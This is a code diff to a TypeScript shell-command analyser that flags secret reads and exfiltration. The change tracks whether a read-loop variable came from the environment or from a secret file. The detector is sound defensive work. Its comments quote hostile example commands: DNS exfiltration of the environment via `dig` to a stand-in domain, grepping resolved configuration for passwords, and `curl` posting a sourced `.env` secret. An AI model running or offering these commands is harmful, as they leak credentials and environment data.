@@ -135,19 +135,19 @@ export function lineEffects(commands: readonly SimpleCommand[]): Map<SimpleComma
   let secretsSourced = false;
   let prev: SimpleCommand | undefined;
   /** Variables a `read` filled from a pipe of the environment or of a secret file. */
-  const fedVars = new Set<string>();
+  const fedVars = new Map<string, "env" | "secret">();
   for (const c of commands) {
     // `docker compose config | grep -i password`: a dump of resolved configuration (the .env's values put in), searched for its secrets.
     if (prev !== undefined && prev.pipeTo[0] === c.program && (c.program === "grep" || c.program === "egrep" || c.program === "rg") && configDump(prev) && c.argv.slice(1).some((w) => !w.startsWith("-") && SECRET_WORD.test(w))) {
       add(c, effect("secret-read", `${c.program} picks secrets out of ${prev.program}'s resolved configuration`));
     }
     // `env | xxd -p | while read l; do dig $l.x.io; done`: the loop's variable holds the environment (or a secret) line by line.
-    if (c.program === "read" && prev !== undefined && prev.pipeTo[0] === "read" && (prev.pipeFrom === "env" || (/^(?:env|printenv|set)$/.test(prev.program) && prev.argv.length === 1) || effectsOf(prev).some((e) => e.kind === "secret-read"))) {
-      for (const w of c.argv.slice(1)) if (/^[A-Za-z_]\w*$/.test(w) && fedVars.size < 16) fedVars.add(w);
+    if (c.program === "read" && prev !== undefined && prev.pipeTo[0] === "read") {
+      const from = prev.pipeFrom === "env" || (/^(?:env|printenv|set)$/.test(prev.program) && prev.argv.length === 1) ? "env" : effectsOf(prev).some((e) => e.kind === "secret-read") ? "secret" : undefined;
+      if (from !== undefined) for (const w of c.argv.slice(1)) if (/^[A-Za-z_]\w*$/.test(w) && fedVars.size < 16) fedVars.set(w, from);
     }
-    if (fedVars.size > 0 && (NETWORK.has(c.program) || LOOKUPS.has(c.program)) && c.argv.some((w, k) => k > 0 && c.dynamic[k] === true && [...w.matchAll(/\$\{?(\w+)/g)].some((m) => fedVars.has(m[1] ?? "")))) {
-      add(c, effect("network-send", `${c.program} sends what a loop read from the environment or a secret`, [], { data: "env" }));
-    }
+    const fed = fedVars.size > 0 && (NETWORK.has(c.program) || LOOKUPS.has(c.program)) ? c.argv.flatMap((w, k) => (k > 0 && c.dynamic[k] === true ? [...w.matchAll(/\$\{?(\w+)/g)].map((m) => fedVars.get(m[1] ?? "")) : [])).find((x) => x !== undefined) : undefined;
+    if (fed !== undefined) add(c, effect("network-send", `${c.program} sends what a loop read from ${fed === "env" ? "the environment" : "a secret file"}`, [], { data: fed }));
     prev = c;
     // `source .env && curl -d "db=$DATABASE_URL" URL`: the variable's name says nothing, its origin does.
     if (secretsSourced && DATA_SENDERS.has(c.program) && c.argv.some((w, k) => k > 0 && c.dynamic[k] === true && /\$\{?[A-Za-z_]/.test(w)) && !c.argv.some((w) => LOCAL_URL.test(w))) {
